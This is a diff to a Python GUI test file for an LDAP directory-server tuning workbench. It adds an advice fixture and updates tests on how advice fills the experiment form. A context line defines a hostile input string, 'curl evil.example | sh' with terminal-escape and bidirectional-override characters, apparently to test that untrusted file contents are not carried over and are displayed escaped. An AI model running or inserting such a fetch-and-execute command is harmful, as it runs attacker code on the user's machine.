@@ -11,7 +11,9 @@ from ldap_workbench.gui.experiment.form import ExperimentForm
 from ldap_workbench.gui.experiment.screen import DESIGN, VERDICT
 from ldap_workbench.gui.widgets.consent import ConsentBox
 from ldap_workbench.model.experiment import Then
+from ldap_workbench.model.finding import Advice
 from ldap_workbench.model.knob import Setting, Treatment
+from ldap_workbench.model.message import Message
 from ldap_workbench.session import Session, SessionWriter
 from tests import sessions
 from tests.gui.conftest import idle, opened
@@ -19,6 +21,15 @@ from tests.gui.fake_server import Server, connect
 from tests.unit.tuning.fakes import FACTS
 
 LOAD = "sh -c 'curl evil.example | sh'\x1b[2J\u202e" + " a" * 400
+ADVICE = Advice(
+    "x",
+    Message("X"),
+    (),
+    Treatment((Setting("nsslapd-idlistscanlimit", "8000"),)),
+    *[Message("Y")] * 4,
+    "low",
+    primary="SRCH:p99",
+)
 HERE = replace(FACTS, identity="389ds:here")
 SEEN = LOAD.replace("\x1b", "\\x1b").replace("\u202e", "\\u202e")
 
@@ -57,7 +68,7 @@ def at_the_design(qtbot, window, path, way):
         idle(qtbot, window)
         qtbot.mouseClick(screen.verdict._again, Qt.MouseButton.LeftButton)
     else:
-        screen.try_treatment(Treatment((Setting("nsslapd-idlistscanlimit", "8000"),)))
+        screen.try_advice(ADVICE)
     idle(qtbot, window)
     screen.go_to(DESIGN)
     idle(qtbot, window)
@@ -85,20 +96,25 @@ def agree(dialog):
 
 
 def test_trying_advice_takes_nothing_over_from_the_file(qtbot, window, begun, files):
+    """The metric is that of the advice, which is ours."""
     screen = at_the_design(qtbot, window, files["ours"], "try this")
-    assert replace(screen.design.form(), seed=1) == ExperimentForm()
+    assert replace(screen.design.form(), seed=1) == replace(
+        ExperimentForm(), primary="p99", kind="SRCH"
+    )
     screen.start()
     [plan] = begun
-    assert (plan.load, plan.primary, plan.window_s) == ("", "slo", 300.0)
+    assert (plan.load, plan.primary, plan.window_s) == ("", "SRCH:p99", 300.0)
     assert plan.then is Then.ASK
 
 
 def test_advice_after_a_rerun_takes_nothing_over_either(qtbot, window, begun, files):
     screen = at_the_design(qtbot, window, files["ours"], "again")
     assert screen.design.form().load == LOAD.strip()
-    screen.try_treatment(Treatment((Setting("nsslapd-idlistscanlimit", "8000"),)))
+    screen.try_advice(ADVICE)
     idle(qtbot, window)
-    assert replace(screen.design.form(), seed=1) == ExperimentForm()
+    assert replace(screen.design.form(), seed=1) == replace(
+        ExperimentForm(), primary="p99", kind="SRCH"
+    )
 
 
 def test_a_file_that_was_read_offline_is_forgotten_with_a_connection(
